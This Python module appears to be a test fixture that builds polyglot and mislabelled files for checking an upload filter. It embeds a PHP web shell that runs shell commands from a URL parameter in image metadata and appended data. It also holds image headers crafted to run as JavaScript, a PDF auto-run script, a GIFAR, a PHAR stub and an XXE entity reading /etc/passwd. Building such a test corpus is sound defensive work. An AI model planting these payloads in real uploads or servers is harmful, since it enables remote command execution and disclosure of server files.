"""Files of two natures, and files that are not what they are called: the corpus of ``samples.polyglots``."""

import struct
import zlib

import samples
from samples import MARKER, box, ftyp

PHP = b"<?php system($_GET['c']); ?>" + MARKER


def corpus() -> list[tuple[str, bytes]]:
    """(name as sent, bytes); each of them carries ``samples.MARKER`` where it can do harm."""
    return [*_jpegs(), *_gifs(), *_pngs(), *_other_images(), *_documents(), *_films(), *_strangers()]


def _jpegs() -> list[tuple[str, bytes]]:
    jpeg, html, page = samples.jpeg(), samples.html(), samples.pdf()
    # The length of the first segment spells "/*": a script whose comment hides the picture.
    script = b"\xff\xd8\xff\xe0\x2f\x2a" + bytes(0x2F2A - 2) + b"\xff\xfe\0\x1c*/=alert(1)/*" + bytes(11)
    return [
        ("comment.jpg", _segment(jpeg, 0xFE, html)),
        ("exif.jpg", _segment(jpeg, 0xE1, b"Exif\0\0" + PHP)),
        ("iptc.jpg.php", _segment(jpeg, 0xED, PHP)),
        ("profile.jpg", _segment(jpeg, 0xE2, b"ICC_PROFILE\0\1\1" + html)),
        ("appended.html", jpeg + html),
        ("appended.php", jpeg + PHP),
        ("script.js", script + MARKER + jpeg[2:]),
        ("jar.jpg", jpeg + samples.zipped("META-INF/MANIFEST.MF")),
        ("zip.jpg", jpeg + samples.zipped()),
        ("pdf.jpg", _segment(jpeg, 0xFE, page + MARKER)),
        ("phar.jpg", jpeg + b"<?php __HALT_COMPILER(); ?>\r\n" + MARKER + b"GBMB"),
        ("rar.jpg", jpeg + b"Rar!\x1a\x07\x01\0" + MARKER),
    ]


def _gifs() -> list[tuple[str, bytes]]:
    gif = samples.gif()
    # Its width spells "/*": 10,799 pixels of comment, then a script.
    script = b"GIF89a/*" + gif[8:] + b"*/=1;alert(1)//" + MARKER
    return [
        ("script.gif", script),
        ("gifar.gif", gif + samples.zipped("Evil.class")),
        ("appended.gif", gif + samples.html()),
        ("comment.gif", gif[:-1] + b"\x21\xfe" + bytes([len(PHP)]) + PHP + b"\0;"),
        ("shell.gif.php", b"GIF89a;" + PHP),
        ("text.gif", b"GIF" + samples.html()),
    ]


def _pngs() -> list[tuple[str, bytes]]:
    return [
        ("text.png", _chunk(b"tEXt", b"Title\0" + samples.html())),
        ("packed.png", _chunk(b"zTXt", b"Title\0\0" + zlib.compress(PHP))),
        ("itext.png", _chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + samples.svg())),
        ("profile.png", _chunk(b"iCCP", b"p\0\0" + zlib.compress(MARKER * 9))),
        ("exif.png", _chunk(b"eXIf", b"MM\0*\0\0\0\x08" + MARKER)),
        ("unknown.png", _chunk(b"raNd", MARKER)),
        ("appended.png", samples.png() + samples.html()),
        ("zip.png", samples.png() + samples.zipped()),
    ]


def _other_images() -> list[tuple[str, bytes]]:
    webp, avif, heic = samples.webp_with_gps(), samples.avif(), samples.heic()
    return [
        ("appended.webp", webp + samples.html()),
        ("xmp.webp", samples.saved(samples.picture(), "WEBP", xmp=samples.svg())),
        ("appended.avif", avif + box(b"free", samples.html())),
        ("xmp.avif", samples.saved(samples.picture(), "AVIF", xmp=samples.svg())),
        ("appended.heic", heic + samples.html()),
        ("exif.heic", samples.saved(samples.picture(), "HEIF", exif=b"Exif\0\0MM\0*\0\0\0\x08" + PHP)),
    ]


def _documents() -> list[tuple[str, bytes]]:
    page = samples.pdf()
    return [
        ("page.pdf", samples.html() + page),
        ("comment.pdf", b"<!--\n" + page + b"-->" + MARKER),
        ("mail.pdf", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + MARKER + page),
        ("zip.pdf", samples.zipped() + page),
        ("appended.pdf", page + samples.html()),
        (
            "action.pdf",
            page.replace(b"/Pages 2 0 R", b"/Pages 2 0 R/OpenAction<</S/JavaScript/JS(1)>>") + MARKER,
        ),
    ]


def _films() -> list[tuple[str, bytes]]:
    return [
        ("appended.mp4", samples.mp4() + samples.html()),
        ("free.mp4", ftyp(b"isom", b"isom") + box(b"free", samples.html()) + samples.old_mov()),
        ("data.mov", box(b"mdat", samples.html())),
        ("appended.webm", samples.webm() + samples.html()),
        ("sound.mp4", ftyp(b"M4A ", b"M4A ", b"mp42", b"isom") + MARKER),
        ("film.mkv", samples.ebml_header(b"matroska") + MARKER),
        ("raw.heic", ftyp(b"crx ", b"crx ", b"isom") + MARKER),
    ]


def _strangers() -> list[tuple[str, bytes]]:
    return [
        ("drawing.svg", samples.svg()),
        ("drawing.jpg", b"\xef\xbb\xbf" + samples.svg()),
        ("page.jpg", samples.html()),
        ("blank.jpg", b" " * 40 + samples.html()),
        ("lunch.mov", b"The free lunch " + samples.html()),
        ("story.mp4", b"The ftypisom tale " + samples.html()),
        (
            "letter.xml",
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>' + MARKER,
        ),
        ("program.jpg", b"MZ\x90\0" + bytes(60) + MARKER),
        ("program.png", b"\x7fELF\2\1\1" + bytes(60) + MARKER),
        ("class.gif", b"\xca\xfe\xba\xbe\0\0\0\x34" + MARKER),
        ("script.png", b"#!/bin/sh\necho " + MARKER),
        ("shell.php.jpg", PHP),
        ("scan.tiff", b"II*\0\x08\0\0\0" + MARKER + bytes(16)),
        ("letter.docx", samples.zipped("word/document.xml")),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARKER),
        ("print.ps", b"%!PS-Adobe-3.0\n" + MARKER),
        ("flash.mp4", b"CWS\x0a" + MARKER),
        ("picture.bmp", b"BM" + struct.pack("<I", 200) + MARKER),
        ("icon.ico", b"\0\0\1\0\1\0\x10\x10" + MARKER + bytes(16)),
        ("wave.webp", b"RIFF\0\1\0\0WAVEfmt " + MARKER),
        ("test.jpg", samples.eicar()),
        ("jxl.jpg", b"\0\0\0\x0cJXL \r\n\x87\n" + ftyp(b"jxl ", b"jxl ", b"isom") + MARKER),
    ]


def _segment(jpeg: bytes, marker: int, body: bytes) -> bytes:
    return jpeg[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body + jpeg[2:]


def _chunk(kind: bytes, body: bytes) -> bytes:
    """The sample PNG with one more chunk after its header."""
    plain = samples.png()
    return plain[:33] + png_chunk(kind, body) + plain[33:]


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
